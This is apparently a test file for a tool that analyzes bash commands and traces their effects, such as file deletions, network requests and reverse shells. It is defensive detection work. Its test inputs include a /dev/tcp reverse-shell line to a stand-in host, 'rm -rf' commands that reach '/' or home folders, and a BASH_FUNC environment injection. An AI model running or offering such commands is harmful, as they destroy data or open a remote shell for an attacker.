import { describe, expect, it } from 'vitest';
import { analyzeShell } from '../../../../src/actions/shell/index.ts';
import { setting } from '../../../support/setting.ts';
import { traceOf } from './trace.ts';

describe('what a command sees of its shell', () => {
  it.each<[string, readonly string[]]>([
    ['a[1]=x; rm "$a"', ['rm  | file.delete ?"$a" (unknown)']],
    ['a=(x y); rm "$a"', ['rm x | file.delete ./x']],
    ['a=(); rm "$a"', ['rm  | file.delete ?"$a" (unknown)']],
    ['a[0]=x; a[1]=y; rm $a', ['rm x | file.delete ./x']],
    ['if ls; then x=a; else x=a; fi; rm $x', ['ls', 'rm a | file.delete ./a']],
    ['x=a; if ls; then x=b; fi; if ls; then x=a; fi; rm $x', ['ls', 'ls', 'rm a | file.delete ./a', 'rm b | file.delete ./b']],
    [
      'x=a; if ls; then x=b; fi; if ls; then x=c; fi; rm $x',
      ['ls', 'ls', 'rm c | file.delete ./c', 'rm b | file.delete ./b', 'rm a | file.delete ./a'],
    ],
    ['if ls; then cd /srv; fi; rm a', ['ls', 'cd /srv in /srv', 'rm a in /srv | file.delete /srv/a', 'rm a | file.delete ./a']],
    ['cd /srv; if ls; then cd /srv; fi; rm a', ['cd /srv in /srv', 'ls in /srv', 'cd /srv in /srv', 'rm a in /srv | file.delete /srv/a']],
    [
      `set -a; x=a; bash -c 'rm $x; y=b; bash -c "rm \\$y"'`,
      [
        'set -a',
        'bash -c rm $x; y=b; bash -c "rm \\$y"',
        'bash > rm a | file.delete ./a',
        'bash > bash -c rm $y',
        'bash > bash > rm ? | file.delete ?$y (unknown)',
      ],
    ],
    ['f() { rm a; }; export -f f; bash -c f', ['export -f f', 'bash -c f', 'bash > rm a | file.delete ./a']],
    ['f() { rm a; }; export f=1; bash -c f', ['export f=1', 'bash -c f', 'bash > f | exec f']],
    [
      "env 'BASH_FUNC_ls%%=() { rm a; }' bash -c ls",
      [
        'env BASH_FUNC_ls%%=() { rm a; } bash -c ls',
        'env > BASH_FUNC_ls%%=() { rm a; } bash -c ls',
        'env > BASH_FUNC_ls%% > rm a | file.delete ./a',
        'env > bash > ls',
      ],
    ],
    ['f() { rm a; }; export -f f; X=1 bash -c ls', ['export -f f', 'BASH_FUNC_f=f X=1 bash -c ls', 'bash > ls']],
    [
      "if ls; then x=a; else x=b; fi; export x; bash -c 'rm $x'",
      ['ls', 'export x', 'bash -c rm $x', 'bash > rm b | file.delete ./b', 'bash > rm a | file.delete ./a'],
    ],
    [
      "if ls; then x=a; else x=b; fi; export x; x=c bash -c 'rm $x'",
      ['ls', 'export x', 'x=c bash -c rm $x', 'bash > rm c | file.delete ./c'],
    ],
    ["export x=a; x=b; bash -c 'rm $x'", ['export x=a', 'bash -c rm $x', 'bash > rm b | file.delete ./b']],
    ["export x; x=b; bash -c 'rm $x'", ['export x', 'bash -c rm $x', 'bash > rm b | file.delete ./b']],
    ['x=a; (x=b; rm $x); rm $x', ['rm b | file.delete ./b', 'rm a | file.delete ./a']],
    [
      'exec 5<>/dev/tcp/h.test/1; (sh <&5)',
      [
        'exec | net.request h.test raw-socket',
        'sh | net.request ?>&5 (unknown) raw-socket | net.request ?>&5 (unknown) raw-socket reverse-shell',
        '(sh) | code.eval downloaded “sh”',
        'flows 1>2 2>1',
      ],
    ],
  ])('%s', (text, expected) => {
    expect(traceOf(analyzeShell(text, 'bash', setting()))).toEqual(expected);
  });
});

const lineOf = (count: number, piece: (i: number) => string, separator = ' '): string =>
  Array.from({ length: count }, (_, i) => piece(i)).join(separator);
const deleted = (text: string): readonly string[] =>
  analyzeShell(text, 'bash', setting()).actions.flatMap(({ effects }) =>
    effects.flatMap(({ kind, operand }) => (kind === 'file.delete' ? [operand?.value ?? '?'] : [])),
  );

describe('of more values than are looked at, those are that lead furthest', () => {
  it.each([
    ['in a loop', `for d in ${lineOf(40, (i) => `a${i}`)} /; do rm -rf $d; done`],
    ['in a loop over an array', `x=(${lineOf(40, (i) => `src/a${i}`)} /); for d in "${'${x[@]}'}"; do rm -rf "$d"; done`],
    ['in a loop over long paths', `for d in ${lineOf(40, (i) => `/srv/a${i}`)} /; do rm -rf $d; done`],
    ['in a loop over names with endings', `for d in ${lineOf(40, (i) => `a.${i}`)} /srv/data; do rm -rf $d/../..; done`],
    ['in the branches of a case', `case $1 in z) d=/ ;; ${lineOf(40, (i) => `${i}) d=a${i} ;;`)} esac; rm -rf $d`],
    ['in lines that are read', `printf '%s\\n' ${lineOf(40, (i) => `a${i}`)} / | while read d; do rm -rf "$d"; done`],
    ['in lines of several words', `printf '%s\\n' ${lineOf(40, (i) => `'u a${i}'`)} 'u /' | while read u d; do rm -rf "$d"; done`],
    ['among folders', `case $1 in y) cd "$X" ;; z) cd / ;; ${lineOf(8, (i) => `${i}) cd /srv/a${i} ;;`)} esac; rm -rf .`],
  ])('%s', (_, text) => {
    expect(deleted(text)).toContain('/');
  });

  it.each([
    ['.git', '/home/ada/code/shop/.git'],
    ['..', '/home/ada/code'],
    ['a/../..', '/home/ada/code'],
    ['~/notes', '/home/ada/notes'],
    ["'a b'", '/home/ada/code/shop/a b'],
  ])('%s is more than a name', (word, path) => {
    expect(deleted(`for d in ${lineOf(40, (i) => `a${i}`)} ${word}; do rm -rf "$d"; done`)).toContain(path);
  });

  it('up to 32, in their order, the last of a longer list unknown', () => {
    const values = (count: number) => deleted(`for d in ${lineOf(count, (i) => `a${i}`)}; do rm "$d"; done`);
    const names = (count: number) => Array.from({ length: count }, (_, i) => `/home/ada/code/shop/a${i}`);
    expect(values(32)).toEqual(names(32));
    expect(values(33)).toEqual([...names(31), '?']);
  });

  it('the latest value first, whatever the others are', () => {
    const branches = lineOf(40, (i) => `${i}) d=/${i} ;;`);
    const found = deleted(`case $1 in ${branches} z) d=last ;; esac; rm $d`);
    expect([found.length, found[0]]).toEqual([32, '/home/ada/code/shop/last']);
  });
});

describe('what is exported', () => {
  const exported = (count: number, then: string) => deleted(`export ${lineOf(count, (i) => `A${i}=1`)}; ${then}; bash -c 'rm "$d"'`);

  it('is handed on up to a bound', () => {
    expect(exported(255, 'export d=/')).toEqual(['/']);
    expect(exported(256, 'export d=/')).toEqual(['?']);
  });

  it('is changed beyond it', () => {
    expect(deleted(`export d=x ${lineOf(255, (i) => `A${i}=1`)}; export d=/; bash -c 'rm "$d"'`)).toEqual(['/']);
  });
});

describe('a piece that only the run can tell', () => {
  const classes = (text: string) => analyzeShell(text, 'bash', setting()).actions.at(-1)?.effects.at(-1)?.operand?.classes;

  it('may be nothing where a variable is not set', () => {
    expect(classes('bash -c "rm -rf $X/"')).toContain('unset');
    expect(classes('rm -rf $X/')).toContain('unset');
  });

  it('is something where a program prints it', () => {
    expect(classes('bash -c "rm -rf $(date)/"')).not.toContain('unset');
    expect(classes('bash -c "rm -rf $(date)/"; rm -rf "$(date)/"')).not.toContain('unset');
  });
});
